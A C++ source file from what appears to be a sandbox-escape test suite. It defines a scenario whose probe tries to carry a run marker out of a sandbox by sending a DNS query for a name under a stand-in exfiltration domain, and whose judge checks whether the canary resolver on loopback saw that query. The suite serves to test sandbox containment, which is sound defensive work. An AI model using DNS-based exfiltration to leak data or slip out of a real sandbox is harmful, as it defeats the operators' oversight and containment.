// door_dns_query: a DNS query to the resolver the suite runs on loopback, for a name that carries
// data out (the run's marker). A sandbox behind a door has no resolver: the door resolves names, the
// code never does.
#include <fmt/format.h>

#include <algorithm>
#include <cctype>
#include <filesystem>

#include "escape/scenarios/door_common.h"

namespace airlock::escape::scenarios::door_dns_query {

#if AIRLOCK_PROBE_SIDE

ProbeReport probe(const ProbeInput& in) {
  int dns_port = in.port(kDnsPort);
  std::string name = fmt::format("{}.{}", in.marker.substr(in.marker.rfind('/') + 1), kDoorExfilDomain);
  Looked l = dns_lookup(dns_port, name);
  return {{},
          l.answered,
          fmt::format("DNS query for {} to 127.0.0.1:{}: {}", name, dns_port, l.said()),
          l.err,
          Json::object()};
}

#else

class DoorDnsQuery final : public Door {
  // The probe asks for MARKER-NAME.exfil.test: a query that reaches the responder carries it out.
  // DNS names are case-insensitive; the responder records them lower-cased.
  Judged judge(Run& run, const Observed& o) override {
    std::string label = std::filesystem::path(run.bait.root).filename().string();
    std::transform(label.begin(), label.end(), label.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    std::vector<std::string> asked;
    for (const auto& q : run.canaries.take_dns_queries())
      if (has(q, label)) asked.push_back(q);
    return host_saw(o, "queries_with_run_marker", asked,
                    fmt::format("the DNS responder on 127.0.0.1:{}", run.bait.door.dns_port),
                    "was asked nothing of the probe's", "WAS ASKED");
  }
};

std::unique_ptr<Scenario> make() { return std::make_unique<DoorDnsQuery>(); }

#endif

}  // namespace airlock::escape::scenarios::door_dns_query
